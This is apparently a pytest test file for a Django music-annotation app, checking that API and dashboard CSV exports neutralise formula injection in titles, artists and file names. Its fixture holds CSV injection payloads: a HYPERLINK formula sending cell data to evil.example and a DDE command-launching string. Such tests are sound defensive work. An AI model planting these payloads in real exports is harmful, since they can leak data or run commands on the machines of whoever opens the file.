"""CSV exports (API and dashboard) never hand a spreadsheet a formula: text cells that start with = + - @ tab
or CR are neutralised with a leading apostrophe; numbers, negative tuning included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from annotations.services.exports import csv_cell_safe
from annotations.services.labels import LabelValue, annotation_import
from tests.annotations.api.helpers import token_client
from tests.factories import make_track

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "artist": "@SUM(1+1)*cmd|' /C calc'!A0",
    "original_filename": "+1-2.wav",
}


@pytest.fixture
def hostile_track(db):
    track = make_track(**HOSTILE, tuning_cents=-12.5)
    annotation_import(track=track, label=LabelValue.parse("C major"))
    return track


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_formula_starts_are_neutralised(text):
    assert csv_cell_safe(text) == "'" + text


def test_numbers_and_plain_text_pass_unchanged():
    assert csv_cell_safe(-12.5) == -12.5 and csv_cell_safe(-3) == -3 and csv_cell_safe(None) is None
    assert csv_cell_safe("C major") == "C major" and csv_cell_safe("a=b") == "a=b"


def test_api_csv_export_neutralises_titles_artists_and_file_names(admin_user, hostile_track):
    response = token_client(admin_user).get("/api/v1/exports/csv")
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["artist"] == "'" + HOSTILE["artist"]
    assert row["file_name"] == "'" + HOSTILE["original_filename"]
    assert row["key"] == "C major"


def test_dashboard_csv_export_neutralises_text_but_not_negative_tuning(client, admin_user, hostile_track):
    assert client.login(username="ada", password="ada-password-1")
    response = client.get(reverse("annotations:export_labels_csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert "'" + HOSTILE["title"].replace('"', '""') in text
    assert "'" + HOSTILE["artist"] in text and "'" + HOSTILE["original_filename"] in text
    assert ",-12.5," in text  # a number, not the text "'-12.5"
    for line in text.splitlines()[1:]:
        assert not any(cell.startswith(("=", "+", "@")) for cell in next(csv.reader([line])))
